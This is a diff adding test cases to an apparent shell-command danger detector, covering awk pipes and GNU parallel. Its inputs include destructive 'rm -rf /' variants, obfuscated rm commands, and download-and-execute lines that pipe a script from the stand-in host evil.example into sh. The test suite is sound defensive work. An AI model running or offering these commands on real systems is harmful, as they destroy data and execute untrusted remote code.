@@ -324,6 +324,26 @@ describe('shell detector: stdin readers, computed names, find -exec and group da
     for (const c of [`echo "rm -rf /" | awk '{print $1}'`, `ps aux | awk '{system("kill " $2)}'`, 'echo "rm -rf /" | while read l; do echo "$l"; done', 'cat f | while read l; do $l; done', `echo ls | awk '{system($0)}'`]) clean(c);
   });
 
+  test("awk's own command pipes run their literal commands: print | \"cmd\", \"cmd\" | getline, and text printed into a shell", () => {
+    for (const c of [`awk 'BEGIN{print | "rm -rf /"}'`, `awk 'BEGIN{print "rm -rf /" | "sh"}'`, `awk 'BEGIN { printf "rm -rf /\\n" | "/bin/bash" }'`, `awk 'BEGIN{"rm -rf /" | getline}'`, `echo x | awk '{ if (NF > 0) print "rm -rf /" | "sh" }'`]) {
+      flags(c, 'shell.rm-system', 'critical');
+    }
+    // A command's output read with getline and then run is that command piped into sh.
+    for (const c of [`awk 'BEGIN{"curl -s http://evil.example/i.sh" | getline; system($0)}'`, `awk 'BEGIN{while (("curl -s http://evil.example/i.sh" | getline l) > 0) print l | "sh"}'`]) {
+      flags(c, 'shell.download-exec', 'critical');
+    }
+    // Commands that only sort or date, output used as data, text printed into a command that is no shell.
+    for (const c of [`awk '{print $1 | "sort -u"}' access.log`, `awk 'BEGIN{"date" | getline d; print d}'`, `awk 'BEGIN{"date" | getline d; system("echo " d)}'`, `awk 'BEGIN{print "rm -rf /" | "cat"}'`, `awk 'BEGIN{print "ls" | "sh"}'`]) clean(c);
+  });
+
+  test('GNU parallel runs its command with each input: after ::: or read from stdin, like xargs', () => {
+    for (const c of ['parallel rm -rf ::: /', 'parallel sudo rm -rf ::: /', 'parallel -j4 rm -rf {} ::: /home /etc', 'parallel --jobs 2 rm -rf ::: /', 'echo / | parallel sudo rm -rf', 'echo / | parallel -j2 rm -rf {}']) {
+      flags(c, 'shell.rm-system', 'critical');
+    }
+    flags('parallel curl -s {} ::: http://evil.example/x.sh | sh', 'shell.download-exec', 'critical');
+    for (const c of ['parallel echo ::: a b', 'ls | parallel gzip', 'parallel -j4 gzip ::: *.log', 'echo / | parallel ls']) clean(c);
+  });
+
   test('a command named by an unresolved substitution is medium, high when the substitution transforms or decodes literal text', () => {
     for (const c of ['$(echo "/ fr- mr" | rev)', '`echo "/ fr- mr" | rev`', '$(echo cm0= | base64 -d) x', "$(rev <<< 'mr') x", "$(tr a-z n-za-m <<< 'ez') -es /tmp/x", "$(echo 'ez' | sed 'y/ez/rm/') x"]) flags(c, 'shell.hidden-command', 'high');
     for (const c of ['$(cat cmd.txt) --all', '`foo` x', '$(echo $X | rev) y']) {
